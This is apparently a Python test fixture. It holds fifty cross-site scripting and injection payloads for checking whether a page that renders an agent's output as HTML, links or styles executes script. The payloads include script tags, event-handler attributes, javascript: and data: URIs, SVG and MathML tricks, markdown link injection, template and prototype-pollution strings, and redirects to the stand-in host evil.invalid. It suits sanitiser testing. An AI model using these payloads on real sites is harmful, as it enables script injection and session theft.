"""
Fifty forms of text that would run in a page which takes an agent's words as HTML, as an address or as a style.

Each would set `window.taken`, open a dialog, or put an element with the attribute `data-taken` into the page.
"""

from __future__ import annotations

_RUN = "window.taken=1"
_MARK = "<b data-taken>taken</b>"

FORMS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_RUN}></SCRIPT>",
    f"<script type=module>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" data-taken>',
    f"<img/src=`x`onerror={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text data-taken>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.taken=1</script>'></iframe>{_MARK}",
    f"<iframe src='javascript:parent.taken=1'></iframe>{_MARK}",
    f"<object data='javascript:{_RUN}'></object>{_MARK}",
    f"<embed src='javascript:{_RUN}'>{_MARK}",
    f"<form action='javascript:{_RUN}'><button data-taken>send</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href='javascript:{_RUN}' data-taken>click</a>",
    f"[click](javascript:{_RUN})",
    f'![x](x"onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cudGFrZW49MTwvc2NyaXB0Pg== {_MARK}",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base href='//evil.invalid/'>",
    "<link rel=stylesheet href='//evil.invalid/x.css'>",
    "<style>@import '//evil.invalid/x.css';*{display:none}</style>",
    f"<div style='background:url(javascript:{_RUN})' data-taken>",
    "{{constructor.constructor('window.taken=1')()}}",
    "${window.taken=1}",
    "__proto__[taken]=1&constructor[prototype][taken]=1",
)

ALL = "\n".join(FORMS)
# An image that is a document, and a document that is none of ours.
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script><text>x</text></svg>'
HTML = f"<!doctype html><body onload='parent.{_RUN}'><script>parent.{_RUN};top.{_RUN}</script>{_MARK}</body>"

# Whether any of them has worked.
TAKEN = """() => "taken" in window || "taken" in {} || document.querySelector("[data-taken]") !== null"""
